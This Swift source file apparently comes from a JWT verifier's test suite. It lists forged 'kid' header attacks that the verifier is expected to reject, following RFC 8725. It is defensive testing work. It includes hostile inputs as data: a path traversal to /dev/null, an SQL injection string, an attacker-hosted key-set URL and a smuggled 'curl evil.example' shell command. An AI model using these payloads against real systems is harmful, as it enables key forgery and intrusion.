import Tokens

/// What a `kid` can do to a verifier that looks keys up by it (RFC 8725 §3.10).
enum KeyIdentifiers {
    static let group = AttackGroup(
        "kid-tricks",
        hope: "the key id reaches a file system, a database or a network before it is compared",
        [
            .named("an unknown kid", "a default key, or the first one of the set", "no-such-key"),
            .named("an empty kid", "the same, where an empty text finds everything", ""),
            .named(
                "a path as kid",
                "a file of known contents as the key: /dev/null is an empty secret",
                "../../../../dev/null"
            ),
            .named("SQL as kid", "a key of the attacker's out of the key table's query", "' UNION SELECT 'forged' --"),
            .named("a URL as kid", "a key set of the attacker's, fetched by the verifier", "https://evil.example/jwks"),
            .named(
                "a command as kid",
                "a shell on the verifier, where ids become file names",
                "key; curl evil.example"
            ),
            .forged(
                "the real kid in other letters",
                gain: "a second name for one key: a key that was withdrawn under the first lives on",
                sent: "the genuine kid in upper case",
                refused: .keyUnknown
            ) { $0.header("kid", .string($0.keyID.uppercased())).underTheOldSignature },
            .forged(
                "the real kid and a NUL behind it",
                gain: "the genuine key for C code, which stops reading there, and another one for the rest",
                sent: "kid: the genuine one and a NUL",
                refused: .keyUnknown
            ) { $0.header("kid", .string($0.keyID + "\0")).underTheOldSignature },
            .forged(
                "no kid",
                gain: "a verifier that tries one key after the other, and takes any",
                sent: "a header without kid",
                refused: .tokenMalformed
            ) { try $0.header("kid", nil).signed() },
            .forged(
                "a list as kid",
                gain: "one id for the log and another for the lookup",
                sent: "kid: [the genuine one]",
                refused: .tokenMalformed
            ) { try $0.header("kid", .array([.string($0.keyID)])).signed() },
        ]
    )
}

extension Attack {
    /// A kid that is no key's, over the forger's own signature.
    fileprivate static func named(_ name: String, _ gain: String, _ keyID: String) -> Attack {
        forged(name, gain: gain, sent: "kid: \"\(keyID)\", signed by the forger's own key", refused: .keyUnknown) {
            try $0.header("kid", .string(keyID)).signed()
        }
    }
}

extension Forgery {
    fileprivate var keyID: String { header["kid"]?.string ?? "" }
}
